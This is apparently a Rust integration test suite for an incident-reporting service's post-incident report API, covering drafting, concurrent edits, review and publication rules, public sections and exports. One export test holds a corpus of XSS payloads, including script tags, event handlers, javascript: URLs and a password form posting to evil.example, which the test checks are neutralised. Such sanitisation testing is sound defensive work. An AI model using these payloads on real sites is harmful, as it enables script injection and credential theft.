//! Post-incident reports over HTTP: the draft's figures, two writers at once, publishing, exports. The look is tested elsewhere.

use futures::future::join_all;
use reqwest::{StatusCode, header};
use shared::{
    api::{
        error::ErrorCode,
        follow_up::{FollowUpIn, FollowUpsShown},
        incident::{IncidentView, ResolveIn},
        report::{
            CommentIn, EditConflict, PublicPreviewIn, PublishIn, ReportCommand, ReportIn, ReportReviewIn, ReviewAskIn,
        },
    },
    domain::{
        access::Role,
        clock::ClockState,
        follow_up::Priority,
        report::{
            facts::{Fact, MARK, filled},
            review::Standing,
        },
        run::RunState,
        text::{Document, TaskText, Title},
    },
    timestamp::human_seconds,
};
use tests::{
    muster::declaration,
    scene::{Scene, eventually, message, publish, refused},
};

fn text(body: &str, base: i32) -> ReportIn {
    ReportIn { body: Document::parse(body).unwrap(), base }
}

/// Declared a while ago, recovered by a run, resolved.
async fn resolved(minutes: i32) -> (Scene, IncidentView) {
    let scene = Scene::set().await.unwrap();
    let _worker = scene.worker();
    let run = scene.waiting().await.unwrap();
    sqlx::query("UPDATE incident SET declared_at = declared_at - make_interval(mins => $1)")
        .bind(minutes)
        .execute(&scene.pool().await.unwrap())
        .await
        .unwrap();
    scene.responder.api.acknowledge(run.incident).await.unwrap();
    tests::scene::decide(&scene.approver, &run, true).await.unwrap();
    scene.until(run.number, RunState::Succeeded).await.unwrap();
    let body = ResolveIn { text: message("restarted by run 1"), public_text: None, notify: true, despite: None };
    let view = scene.responder.api.resolve(run.incident, &body).await.unwrap();
    (scene, view)
}

/// An open incident with a drafted report; no run.
async fn drafted() -> (Scene, i64) {
    let scene = Scene::set().await.unwrap();
    let n = scene.declared().await.unwrap().number;
    scene.responder.api.draft_report(n).await.unwrap();
    (scene, n)
}

#[tokio::test]
async fn the_draft_tells_the_measured_times_the_steps_and_the_people() {
    let (scene, incident) = resolved(20).await;
    let report = scene.responder.api.draft_report(incident.number).await.unwrap();
    assert_eq!(report.version, 1);
    let [response, recovery] = &incident.clocks[..] else { panic!("{:?}", incident.clocks) };
    assert_eq!((response.state(incident.now), recovery.state(incident.now)), (ClockState::Met, ClockState::Missed));
    let measured = |clock: &shared::domain::clock::Clock| {
        let seconds = clock.used_seconds(incident.now);
        assert!((1200..1320).contains(&seconds), "{seconds}");
        human_seconds(seconds)
    };
    let body = &filled(&report.body, &report.facts);
    for part in [
        "## Summary".to_owned(),
        MARK.into(),
        format!("| Response | 1 h | {} | met |", measured(response)),
        format!("| Recovery of Validator 1 | 10 min | {} | **missed** |", measured(recovery)),
        format!("| Resolved | {} (after {}) |", incident.resolved_at.unwrap().utc_text(), measured(recovery)),
        "internal: paged by the watchdog".into(),
        "Requested by Test operator".into(),
        "Approved by Test approver".into(),
        "Outcome: succeeded.".into(),
        "restarted bt2c\\_validator1\\_1 in".into(),
        "restarted by run 1".into(),
        "## Root cause".into(),
    ] {
        let plain = part.replace("\\_", "_");
        assert!(body.contains(&part) || body.contains(&plain), "{part:?} is missing in\n{body}");
    }
    assert!(
        !report.body.contains("validator1"),
        "what the records say is filled in, not written down: {}",
        report.body
    );
    let times = incident.timeline.iter().filter(|entry| body.contains(&entry.at.utc_text())).count();
    assert_eq!(times, incident.timeline.len(), "every moment of the timeline is told");
}

#[tokio::test]
async fn drafting_twice_keeps_what_was_written() {
    let (scene, n) = drafted().await;
    let all = join_all((0..5).map(|_| scene.operator.api.draft_report(n))).await;
    assert!(all.into_iter().all(|report| report.unwrap().version == 1));
    scene.responder.api.save_report(n, &text("mine", 1)).await.unwrap();
    let again = scene.operator.api.draft_report(n).await.unwrap();
    assert_eq!((again.version, again.body.as_str()), (2, "mine"));
    assert_eq!(refused(scene.operator.api.report(4711).await).code, ErrorCode::NotFound);
    let other = scene.declared().await.unwrap().number;
    assert_eq!(refused(scene.operator.api.report(other).await).code, ErrorCode::NotFound, "not drafted yet");
    assert_eq!(refused(scene.operator.api.save_report(other, &text("x", 1)).await).code, ErrorCode::NotFound);
}

#[tokio::test]
async fn of_two_writers_the_second_gets_both_texts_and_nothing_is_lost() {
    let (scene, n) = drafted().await;
    scene.responder.api.save_report(n, &text("from the responder", 1)).await.unwrap();
    let error = refused(scene.operator.api.save_report(n, &text("from the operator", 1)).await);
    assert_eq!(error.code, ErrorCode::EditConflict);
    assert!(error.message.starts_with("Test responder saved version 2"), "{}", error.message);
    let conflict: EditConflict = serde_json::from_value(error.details.unwrap()).unwrap();
    assert_eq!(
        (conflict.current, conflict.current_body.as_str(), conflict.yours.as_str()),
        (2, "from the responder", "from the operator")
    );
    assert_eq!(conflict.current_by.user(), Some(scene.responder.id));
    assert_eq!(scene.operator.api.report(n).await.unwrap().body, "from the responder");
    let joined = scene.operator.api.save_report(n, &text("from both", conflict.current)).await.unwrap();
    assert_eq!((joined.version, joined.body.as_str()), (3, "from both"));
    let kept: Vec<String> = sqlx::query_scalar("SELECT body FROM report_version ORDER BY version")
        .fetch_all(&scene.pool().await.unwrap())
        .await
        .unwrap();
    assert_eq!(kept[1..], ["from the responder", "from both"], "every version is kept");
    let future = refused(scene.operator.api.save_report(n, &text("x", 99)).await);
    assert_eq!(future.code, ErrorCode::EditConflict, "a version that does not exist yet is no base");
}

#[tokio::test]
async fn of_ten_saves_at_once_one_is_kept_and_nine_come_back() {
    let (scene, n) = drafted().await;
    let texts: Vec<_> = (0..10).map(|i| text(&format!("text {i}"), 1)).collect();
    let answers = join_all(texts.iter().map(|text| scene.operator.api.save_report(n, text))).await;
    let (saved, conflicts): (Vec<_>, Vec<_>) = answers.into_iter().partition(Result::is_ok);
    assert_eq!(saved.len(), 1);
    let now = scene.operator.api.report(n).await.unwrap();
    assert_eq!(now.version, 2);
    for conflict in conflicts {
        let details: EditConflict = serde_json::from_value(refused(conflict).details.unwrap()).unwrap();
        assert!(details.yours.starts_with("text ") && details.yours != details.current_body);
        assert_eq!(details.current_body, now.body);
    }
}

#[tokio::test]
async fn publishing_takes_the_role_the_version_that_was_read_and_somebody_else() {
    let (scene, n) = drafted().await;
    for person in [&scene.responder, &scene.operator] {
        assert_eq!(refused(person.api.publish_report(n, &PublishIn::for_team(1)).await).code, ErrorCode::Forbidden);
        let view = person.api.report(n).await.unwrap();
        let offer = view.offers.iter().find(|o| o.command == ReportCommand::Publish).unwrap();
        assert!(offer.refused.as_ref().is_some_and(|why| why.contains("approver or administrator")), "{offer:?}");
    }
    let (approver, verdict) = (&scene.approver.api, |version, approve| ReportReviewIn { version, approve, text: None });
    approver.review_report(n, &verdict(1, true)).await.unwrap();
    // A change asks anew.
    scene.responder.api.save_report(n, &text("second version", 1)).await.unwrap();
    let error = refused(approver.publish_report(n, &PublishIn::for_team(1)).await);
    assert_eq!(error.code, ErrorCode::ContentChanged);
    assert!(error.message.contains("saved version 2") && error.message.contains("Nothing was published"), "{error:?}");
    let error = refused(approver.publish_report(n, &PublishIn::for_team(2)).await);
    assert_eq!(error.code, ErrorCode::NotNow);
    assert!(error.message.starts_with("Nobody but its writer has approved version 2"), "{}", error.message);
    assert_eq!(approver.report(n).await.unwrap().published, None);

    // One's own version one does not judge.
    approver.save_report(n, &text("third version", 2)).await.unwrap();
    let error = refused(approver.review_report(n, &verdict(3, true)).await);
    assert!(error.code == ErrorCode::NotNow && error.message.contains("yourself"), "{error:?}");
    assert_eq!(refused(approver.review_report(n, &verdict(2, true)).await).code, ErrorCode::ContentChanged);
    scene.responder.api.save_report(n, &text("fourth version", 3)).await.unwrap();
    let error = refused(approver.review_report(n, &verdict(4, false)).await);
    assert_eq!((error.code, error.fields[0].field.as_str()), (ErrorCode::Invalid, "text"), "changes are named");
    let changes = ReportReviewIn { version: 4, approve: false, text: Some(message("say why it took so long")) };
    let view = approver.review_report(n, &changes).await.unwrap();
    assert_eq!(view.standing, Standing::ChangesAsked { by: "Test approver".into() });
    let error = refused(approver.publish_report(n, &PublishIn::for_team(4)).await);
    assert!(error.message.contains("asked for changes"), "{}", error.message);

    let administrator = scene.muster.persona(Role::Administrator).await.unwrap();
    approver.review_report(n, &verdict(4, true)).await.unwrap();
    let view = administrator.api.publish_report(n, &PublishIn::for_everybody(4, vec![0])).await.unwrap();
    let published = view.published.unwrap();
    assert_eq!((published.version, published.public, published.by.user()), (4, true, Some(administrator.id)));
    let timeline = approver.incident(n).await.unwrap().timeline;
    assert!(matches!(
        timeline.last().unwrap().event,
        shared::domain::incident::IncidentEvent::ReportPublished { version: 4, public: true }
    ));
    assert!(approver.publish_report(n, &PublishIn::for_everybody(4, vec![0])).await.is_ok(), "again is no mistake");
    assert_eq!(approver.incident(n).await.unwrap().timeline.len(), timeline.len(), "and no second publication");
}

#[tokio::test]
async fn who_is_asked_for_a_review_is_told_and_comments_stand_beside_their_section() {
    let (scene, n) = drafted().await;
    let responder = &scene.responder.api;
    let who: Vec<_> = responder.reviewers(n).await.unwrap().items.into_iter().map(|person| person.id).collect();
    assert!(who.contains(&scene.approver.id) && !who.contains(&scene.responder.id), "{who:?}");
    let error = refused(responder.ask_review(n, &ReviewAskIn { version: 1, person: scene.operator.id }).await);
    assert_eq!((error.code, error.fields[0].field.as_str()), (ErrorCode::Invalid, "person"));
    let view = responder.ask_review(n, &ReviewAskIn { version: 1, person: scene.approver.id }).await.unwrap();
    assert_eq!(view.standing, Standing::Asked { by: "Test responder".into() });
    let subjects: Vec<(String, String)> = sqlx::query_as("SELECT recipient, subject FROM message ORDER BY number DESC")
        .fetch_all(&scene.pool().await.unwrap())
        .await
        .unwrap();
    assert!(
        subjects.contains(&("Test approver".into(), format!("Review asked: report on incident {n}"))),
        "{subjects:?}"
    );

    let section = Some(Title::parse("Impact").unwrap());
    let comment = CommentIn { version: 1, section, text: message("Whom did it hurt?") };
    let view = scene.operator.api.comment_report(n, &comment).await.unwrap();
    let [said] = &view.comments[..] else { panic!("{:?}", view.comments) };
    assert_eq!((said.section.as_str(), said.settled_by.as_ref()), ("Impact", None));
    let view = responder.settle_comment(n, said.id, true).await.unwrap();
    assert_eq!(view.comments[0].settled_by.as_deref(), Some("Test responder"));
    let view = responder.settle_comment(n, said.id, false).await.unwrap();
    assert_eq!(view.comments[0].settled_at, None);
    let unknown = refused(responder.settle_comment(n, uuid::Uuid::nil(), true).await);
    assert_eq!(unknown.code, ErrorCode::NotFound);
    let error = refused(responder.comment_report(n, &CommentIn { version: 9, ..comment }).await);
    assert_eq!(error.fields[0].field, "version");
    let viewer = scene.muster.persona(Role::Viewer).await.unwrap();
    let mine = CommentIn { version: 1, section: None, text: message("x") };
    assert_eq!(refused(viewer.api.comment_report(n, &mine).await).code, ErrorCode::Forbidden);

    responder.save_report(n, &text("second", 1)).await.unwrap();
    let heads = viewer.api.report_versions(n).await.unwrap().items;
    assert_eq!(heads.iter().map(|head| head.version).collect::<Vec<_>>(), [2, 1]);
    assert_eq!(viewer.api.report_version(n, 2).await.unwrap().body, "second");
    assert_eq!(refused(viewer.api.report_version(n, 3).await).code, ErrorCode::NotFound);
}

#[tokio::test]
async fn facts_follow_the_records_until_the_version_is_published() {
    let (scene, n) = drafted().await;
    let timeline = async || {
        let view = scene.responder.api.report(n).await.unwrap();
        view.facts.into_iter().find(|block| block.fact == Fact::Timeline).unwrap().text
    };
    scene.responder.api.acknowledge(n).await.unwrap();
    assert!(timeline().await.contains("acknowledged"), "{}", timeline().await);
    publish(&scene.approver, n, false).await.unwrap();
    let then = timeline().await;
    let to_do =
        FollowUpIn { title: TaskText::parse("Later").unwrap(), owner: None, due_at: None, priority: Priority::Low };
    scene.responder.api.add_follow_up(n, &to_do, "k").await.unwrap();
    assert_eq!(scene.responder.api.follow_ups(FollowUpsShown::Open).await.unwrap().items.len(), 1);
    let note = shared::api::incident::NoteIn::of(message("said afterwards"));
    scene.responder.api.note(n, &note).await.unwrap();
    assert_eq!(timeline().await, then, "what is published stays as it was read");
    let printed = scene.responder.http.page(&format!("/api/v1/incidents/{n}/report/print")).await.unwrap().1;
    assert!(printed.contains("acknowledged") && !printed.contains("said afterwards"), "{printed}");
    let body = scene.responder.api.report(n).await.unwrap().body;
    scene.responder.api.save_report(n, &text(&(body + "\nMore."), 1)).await.unwrap();
    assert!(timeline().await.contains("said afterwards"), "a new version follows again");
}

#[tokio::test]
async fn the_public_sees_the_sections_that_were_chosen_and_no_internal_fact() {
    let (scene, n) = drafted().await;
    let body = "secret preface\n\n## For everybody\n\nThe **first** word.\n\n[facts: timeline]\n\n[facts: people]\n\n## For us\n\nOur fault.\n";
    scene.responder.api.save_report(n, &text(body, 1)).await.unwrap();
    let stranger = scene.muster.stranger().unwrap();
    let page = async || stranger.page(&format!("/incidents/{n}/report")).await.unwrap();
    assert_eq!(page().await.0, StatusCode::NOT_FOUND);
    let approver = &scene.approver.api;
    approver.review_report(n, &ReportReviewIn { version: 2, approve: true, text: None }).await.unwrap();
    approver.publish_report(n, &PublishIn::for_team(2)).await.unwrap();
    scene.muster.state.public.refresh(&scene.muster.store).await.unwrap();
    assert_eq!(page().await.0, StatusCode::NOT_FOUND, "published for the team only");
    for sections in [vec![], vec![3]] {
        let error = refused(approver.publish_report(n, &PublishIn::for_everybody(2, sections)).await);
        assert_eq!((error.code, error.fields[0].field.as_str()), (ErrorCode::Invalid, "sections"));
    }
    let preview = PublicPreviewIn { version: 2, sections: vec![1] };
    let preview = approver.preview_public_report(n, &preview).await.unwrap().text;
    approver.publish_report(n, &PublishIn::for_everybody(2, vec![1])).await.unwrap();
    eventually("the report is public", async || page().await.0 == StatusCode::OK).await.unwrap();
    let (_, html) = page().await;
    assert!(html.contains("The <strong>first</strong> word.") && html.contains("We are looking into it."), "{html}");
    let kept: String =
        sqlx::query_scalar("SELECT public_text FROM report").fetch_one(&scene.pool().await.unwrap()).await.unwrap();
    assert_eq!(kept, preview, "what was previewed is what is there");
    scene.responder.api.save_report(n, &text("A second thought.", 2)).await.unwrap();
    scene.muster.state.public.refresh(&scene.muster.store).await.unwrap();
    let (_, html) = page().await;
    assert!(html.contains("first") && !html.contains("second thought"), "what is not published is not shown");
    let (_, incident) = stranger.page(&format!("/incidents/{n}")).await.unwrap();
    assert!(incident.contains(&format!("/incidents/{n}/report")), "the incident leads to it");
    for hidden in [
        "Test approver",
        "Test responder",
        "Minor Incident",
        "validator1 is down",
        "preface",
        "For us",
        "Our fault",
        "[facts",
    ] {
        assert!(!html.contains(hidden), "{hidden} is internal");
    }
}

#[tokio::test]
async fn the_report_of_an_internal_incident_stays_inside() {
    let scene = Scene::set().await.unwrap();
    let mut body = declaration("validator1").unwrap();
    body.public = None;
    let n = scene.responder.api.declare(&body, "k").await.unwrap().number;
    scene.responder.api.draft_report(n).await.unwrap();
    let error = refused(scene.approver.api.publish_report(n, &PublishIn::for_everybody(1, vec![0])).await);
    assert_eq!((error.code, error.fields[0].field.as_str()), (ErrorCode::Invalid, "public"));
    assert_eq!(scene.approver.api.report(n).await.unwrap().published, None);
    publish(&scene.approver, n, false).await.unwrap();
    scene.muster.state.public.refresh(&scene.muster.store).await.unwrap();
    let stranger = scene.muster.stranger().unwrap();
    for path in [format!("/incidents/{n}/report"), format!("/incidents/{n}")] {
        assert_eq!(stranger.page(&path).await.unwrap().0, StatusCode::NOT_FOUND, "{path}");
    }
}

#[tokio::test]
async fn exports_are_the_text_itself_and_a_page_that_runs_nothing() {
    const CORPUS: &str = "# Ours\n\n\
        <script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n\n<svg/onload=alert(1)>\n\n[x](javascript:alert(1))\n\n\
        [x](JaVaScRiPt:alert(1))\n\n[x](&#106;avascript:alert(1))\n\n[x](data:text/html;base64,PHNjcmlwdD4=)\n\n\
        <a href=\"javascript:alert(1)\">x</a>\n\n<iframe src=\"//evil.example\"></iframe>\n\n<style>body{display:none}</style>\n\n\
        <base href=\"//evil.example\">\n\n<form action=//evil.example><input name=password></form>\n\n\
        [x](https://example.org/ 'a\" onmouseover=\"alert(1)')\n\n{{ secret }} {% include \"x\" %}\n\nkept **bold** é 漢\r\n";
    let (scene, n) = drafted().await;
    scene.responder.api.save_report(n, &text(CORPUS, 1)).await.unwrap();
    let stored = scene.responder.api.report(n).await.unwrap().body;
    let export = async |ending: &str| {
        let response = scene
            .responder
            .http
            .ask("GET", &format!("/api/v1/incidents/{n}/report/export.{ending}"), None)
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::OK);
        let disposition = response.headers()[header::CONTENT_DISPOSITION].to_str().unwrap().to_owned();
        assert_eq!(disposition, format!("attachment; filename=\"incident-{n}-report.{ending}\""));
        (response.headers()[header::CONTENT_TYPE].to_str().unwrap().to_owned(), response.text().await.unwrap())
    };
    let (kind, markdown) = export("md").await;
    assert_eq!((kind.as_str(), markdown.as_str()), ("text/markdown; charset=utf-8", stored.as_str()));
    assert_eq!(markdown.trim(), CORPUS.trim(), "nothing was changed on the way");
    let (kind, html) = export("html").await;
    assert_eq!(kind, "text/html; charset=utf-8");
    assert!(html.contains("<strong>bold</strong> é 漢") && html.contains("{{ secret }}"), "{html}");
    let body = &html[html.rfind("</style>").unwrap() + 8..].to_lowercase();
    for tag in
        ["<script", "<img", "<svg", "<iframe", "<style", "<base", "<form", "<input", "<meta", "<object", "<embed"]
    {
        assert!(!body.contains(tag), "{tag} in {body}");
    }
    for opening in body.split('<').skip(1).filter_map(|rest| rest.split('>').next()) {
        let outside_quotes: String = opening.split('"').step_by(2).collect();
        assert!(!outside_quotes.contains(" on"), "<{opening}>");
        assert!(!opening.contains("javascript:") && !opening.contains("data:"), "<{opening}>");
    }
    assert!(html.contains("Content-Security-Policy"), "the file itself forbids scripts, wherever it is opened");
}

#[tokio::test]
async fn a_report_that_is_too_long_is_refused_and_the_old_one_stays() {
    let (scene, n) = drafted().await;
    let path = format!("/api/v1/incidents/{n}/report");
    let body = serde_json::json!({"base": 1, "body": "x".repeat(200_001)});
    let (status, answer) = scene.responder.http.raw("PUT", &path, Some(body)).await.unwrap();
    assert_eq!(
        (status, answer["error"]["fields"][0]["field"].as_str()),
        (StatusCode::UNPROCESSABLE_ENTITY, Some("body"))
    );
    assert_eq!(scene.responder.api.report(n).await.unwrap().version, 1);
}
